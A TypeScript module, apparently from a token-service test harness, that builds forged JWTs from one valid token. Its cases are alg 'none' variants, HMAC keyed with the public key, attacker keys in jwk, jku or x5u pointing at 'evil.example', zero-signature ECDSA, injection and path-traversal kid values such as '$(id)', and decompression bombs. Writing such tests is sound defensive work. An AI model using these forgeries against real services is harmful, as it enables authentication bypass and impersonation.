import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { makeCertificate, signJws } from '../certificates.ts';
import type { Stage } from '../interop/stage.ts';

type Members = Readonly<Record<string, unknown>>;

/** A token that an attacker made from a good one. */
export interface Forgery {
  readonly name: string;
  readonly token: string;
}

/** A token, read as anybody can. */
function readToken(token: string): {
  readonly header: Members;
  readonly claims: Members;
  readonly signature: string;
} {
  const [head = '', body = '', signature = ''] = token.split('.');
  const [header, claims] = [head, body].map((part) => JSON.parse(Buffer.from(part, 'base64url').toString()) as Members);
  return { header: header ?? {}, claims: claims ?? {}, signature };
}

const encode = (part: unknown): string =>
  Buffer.from(typeof part === 'string' ? part : JSON.stringify(part)).toString('base64url');

/** Three parts; texts among them are taken as the JSON to encode. */
export function join(header: unknown, claims: unknown, signature: string): string {
  return `${encode(header)}.${encode(claims)}.${signature}`;
}

function hmac(header: Members, claims: Members, key: string | Buffer): string {
  const input = `${encode(header)}.${encode(claims)}`;
  return `${input}.${createHmac(`sha${String(header.alg).slice(2)}`, key)
    .update(input)
    .digest('base64url')}`;
}

/** The keys that the platform publishes, as whoever looks finds them. */
async function publishedKeys({ platform }: Stage): Promise<readonly Readonly<Record<string, string>>[]> {
  const answer = await platform.fetch(`${platform.baseUrl}/common/discovery/v2.0/keys`);
  return ((await answer.json()) as { readonly keys: readonly Readonly<Record<string, string>>[] }).keys;
}

/** Whatever an attacker who holds one good token, and no key, has tried on token services before. */
export async function forgeries(stage: Stage, good: string): Promise<readonly Forgery[]> {
  const { header, claims, signature } = readToken(good);
  const later = { ...claims, exp: Number(claims.exp) + 60 };
  const published = (await publishedKeys(stage)).find(({ kid }) => kid === header.kid) ?? {};
  const publicKey = createPublicKey({ key: { ...published }, format: 'jwk' });
  return [
    ...withoutSignature(header, claims, signature),
    ...symmetric(header, claims, publicKey, published),
    ...(await withOwnKey(header, claims)),
    ...named(header, claims),
    ...misread(header, claims, later, signature, good),
  ];
}

/** CVE-2015-9235 and its kin: the algorithm says that there is nothing to verify. */
function withoutSignature(header: Members, claims: Members, signature: string): readonly Forgery[] {
  return ['none', 'None', 'NONE', 'nOnE', '', null, 'RS256\0', 'rs256', 'undefined'].flatMap((alg) =>
    ['', signature, 'AA'].map((sent) => ({
      name: `alg ${JSON.stringify(alg)} with ${sent === '' ? 'no' : sent === 'AA' ? 'a short' : 'the old'} signature`,
      token: join({ ...header, alg }, claims, sent),
    })),
  );
}

/** CVE-2016-5431 and its kin: the public key, taken for a shared secret. */
function symmetric(header: Members, claims: Members, publicKey: KeyObject, jwk: Members): readonly Forgery[] {
  const spki = publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const keys: readonly (readonly [string, string | Buffer])[] = [
    ['the public key as PEM', spki],
    ['the same without its last line break', spki.trimEnd()],
    ['the public key as PKCS #1', publicKey.export({ type: 'pkcs1', format: 'pem' }).toString()],
    ['its DER', publicKey.export({ type: 'spki', format: 'der' })],
    ['its modulus', String(jwk.n)],
    ['its JWK', JSON.stringify(jwk)],
    ['its certificate', Array.isArray(jwk.x5c) ? String(jwk.x5c[0]) : ''],
    ['its kid', String(header.kid)],
    ['nothing', ''],
  ];
  return ['HS256', 'HS384', 'HS512'].flatMap((alg) =>
    keys.map(([name, key]) => ({ name: `${alg} by ${name}`, token: hmac({ ...header, alg }, claims, key) })),
  );
}

/** CVE-2018-0114 and its kin: the token brings the key it wants to be verified with. */
async function withOwnKey(header: Members, claims: Members): Promise<readonly Forgery[]> {
  const own = await makeCertificate();
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = createPublicKey(own.privateKeyPem).export({ format: 'jwk' });
  const x5c = [own.der.toString('base64')];
  const x5t = Buffer.from(own.thumbprint, 'hex').toString('base64url');
  const sign = (more: Members) => signJws(own.privateKey, { ...header, ...more }, claims);
  return [
    { name: 'a key of one’s own under the right kid', token: sign({}) },
    { name: 'a key of one’s own in jwk', token: sign({ jwk }) },
    { name: 'a key of one’s own in jwk, without kid', token: sign({ jwk, kid: undefined }) },
    { name: 'a key of one’s own at jku', token: sign({ jku: 'https://evil.example/keys', kid: 'evil' }) },
    { name: 'a certificate of one’s own in x5c', token: sign({ x5c, x5t, kid: x5t }) },
    { name: 'a certificate of one’s own at x5u', token: sign({ x5u: 'https://evil.example/c.pem', x5t, kid: x5t }) },
    { name: 'PS256 by a key of one’s own', token: sign({ alg: 'PS256' }) },
    { name: 'ES256 by a key of one’s own', token: signJws(ec.privateKey, { ...header, alg: 'ES256' }, claims) },
    // CVE-2022-21449: r and s are zero.
    {
      name: 'ES256 with nothing but zeros',
      token: join({ ...header, alg: 'ES256' }, claims, Buffer.alloc(64).toString('base64url')),
    },
    { name: 'RS256 with nothing but zeros', token: join(header, claims, Buffer.alloc(256).toString('base64url')) },
    {
      name: 'RS256 with the number one',
      token: join(header, claims, Buffer.from([...Buffer.alloc(255), 1]).toString('base64url')),
    },
    { name: 'RS256 with an empty signature', token: join(header, claims, '') },
  ];
}

/** The key id, taken for the name of a file or for SQL. */
function named(header: Members, claims: Members): readonly Forgery[] {
  const kids = [
    '../../../../../../dev/null',
    '/dev/null',
    "' UNION SELECT '",
    "x' OR '1'='1",
    '`id`',
    '$(id)',
    '\0',
    '__proto__',
    'constructor',
    null,
    0,
    [],
    {},
    [header.kid],
    { toString: header.kid },
  ];
  return kids.flatMap((kid) => [
    { name: `kid ${JSON.stringify(kid)}, HS256 by nothing`, token: hmac({ ...header, alg: 'HS256', kid }, claims, '') },
    {
      name: `kid ${JSON.stringify(kid)}, RS256`,
      token: join({ ...header, kid }, claims, Buffer.alloc(256).toString('base64url')),
    },
  ]);
}

/** Two readers, two readings. */
function misread(
  header: Members,
  claims: Members,
  later: Members,
  signature: string,
  good: string,
): readonly Forgery[] {
  const [head = '', body = ''] = good.split('.');
  const deep = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
  const json = JSON.stringify(claims);
  return [
    { name: 'other claims under the same signature', token: join(header, later, signature) },
    { name: 'a claim twice', token: join(header, `${json.slice(0, -1)},"exp":${String(later.exp)}}`, signature) },
    { name: 'the algorithm twice', token: join(`{"alg":"none",${JSON.stringify(header).slice(1)}`, claims, signature) },
    { name: 'a byte order mark before the header', token: join(`\ufeff${JSON.stringify(header)}`, claims, signature) },
    { name: 'a byte order mark before the claims', token: join(header, `\ufeff${json}`, signature) },
    { name: 'claims as deep as a well', token: join(header, deep, signature) },
    { name: 'a header as deep as a well', token: join(deep, claims, signature) },
    {
      name: 'a chain of ten thousand characters',
      token: join({ ...header, x5c: Array(10).fill('A'.repeat(1_000)) }, claims, signature),
    },
    { name: 'a critical extension', token: join({ ...header, crit: ['exp'] }, claims, signature) },
    {
      name: 'claims that are not encoded',
      token: `${encode({ ...header, b64: false, crit: ['b64'] })}.${json}.${signature}`,
    },
    {
      name: 'claims that are compressed',
      token: `${encode({ ...header, zip: 'DEF' })}.${deflateRawSync(json).toString('base64url')}.${signature}`,
    },
    {
      name: 'claims that blow up',
      token: `${encode({ ...header, zip: 'DEF' })}.${deflateRawSync(' '.repeat(1_000_000)).toString('base64url')}.${signature}`,
    },
    { name: 'the JSON form of a JWS', token: JSON.stringify({ payload: body, protected: head, signature }) },
    { name: 'five parts, as of a JWE', token: `${good}.${body}.${signature}` },
    { name: 'another part behind', token: `${good}.` },
    { name: 'a token inside a token', token: join({ ...header, cty: 'JWT', alg: 'none' }, good, '') },
    { name: 'claims that are null', token: join(header, 'null', signature) },
    { name: 'a header that is a list', token: join([], claims, signature) },
  ];
}
